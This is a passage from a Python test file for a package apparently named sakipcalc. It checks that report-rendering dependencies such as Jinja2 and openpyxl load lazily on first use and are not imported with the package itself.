    # Jinja2 and openpyxl are imported when a report is first rendered.
    import subprocess
    import sys

    code = (
        "import sys, sakipcalc\n"
        "print(sorted(m for m in sys.modules if m.startswith("
        "('sakipcalc.render', 'jinja2', 'openpyxl', 'markupsafe'))))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "[]"


def test_render_names_load_on_first_use() -> None:
    import sakipcalc.render as render

    assert callable(render.render_table)
    assert render.to_jsonable(Decimal("1.50")) == "1.50"
    with pytest.raises(AttributeError):
        render.render_pdf  # noqa: B018
